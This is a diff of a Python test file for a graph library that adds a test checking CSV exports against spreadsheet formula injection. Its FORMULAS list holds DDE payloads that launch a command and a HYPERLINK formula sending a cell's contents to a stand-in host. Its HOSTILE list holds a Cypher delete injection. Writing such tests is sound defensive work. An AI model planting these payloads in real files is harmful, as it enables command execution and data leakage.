@@ -19,6 +19,7 @@ from knotwork._stores.base import Store
 from knotwork._stores.export import FORMATS, export_graph
 from knotwork._stores.export.formats import format_literal
 from knotwork._stores.memory import MemoryStore
+from knotwork._text.spreadsheet_cells import restore_cell
 from knotwork.errors import MissingExtra, StoreBusy, UnknownName
 from knotwork.records import (
     Chunk,
@@ -45,6 +46,26 @@ HOSTILE = (
     '=HYPERLINK(1),"a",b\'',
     "温青岚 e\u0301 \U0001f426 \ufffe",
     "$row.id}) DETACH DELETE n; MATCH (n {x: '",
+)
+
+
+FORMULAS = (
+    '=HYPERLINK("http://example.com/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "'=1+1",
+    "''=1+1",
 )
 
 
@@ -146,8 +167,29 @@ def test_graphml_is_read_by_networkx(store, tmp_path):
     }
 
 
+def read_cells(folder: Path) -> Iterator[str]:
+    for file in folder.iterdir():
+        with file.open(encoding="utf-8", newline="") as lines:
+            for row in csv.reader(lines):
+                yield from row
+
+
+def test_no_cell_of_a_csv_export_is_a_formula(tmp_path):
+    store = MemoryStore()
+    fill(store, FORMULAS)
+    export_graph(store, tmp_path / "safe", format="csv")
+    export_graph(store, tmp_path / "raw", format="csv", raw=True)
+    store.close()
+    safe, raw = list(read_cells(tmp_path / "safe")), list(read_cells(tmp_path / "raw"))
+    assert not [
+        cell for cell in safe if re.match(r"\W*[=+\-@\t\r\n＝＋－＠]", cell) and cell[0] != "'"
+    ]
+    assert set(FORMULAS) <= set(raw)
+    assert [restore_cell(cell) for cell in safe] == raw
+
+
 def test_csv_is_read_by_the_standard_reader(store, tmp_path):
-    export_graph(store, tmp_path / "tables", format="csv")
+    export_graph(store, tmp_path / "tables", format="csv", raw=True)
     with (tmp_path / "tables" / "nodes.csv").open(encoding="utf-8", newline="") as file:
         nodes = {row["id"]: row["name"] for row in csv.DictReader(file)}
     with (tmp_path / "tables" / "edges.csv").open(encoding="utf-8", newline="") as file:
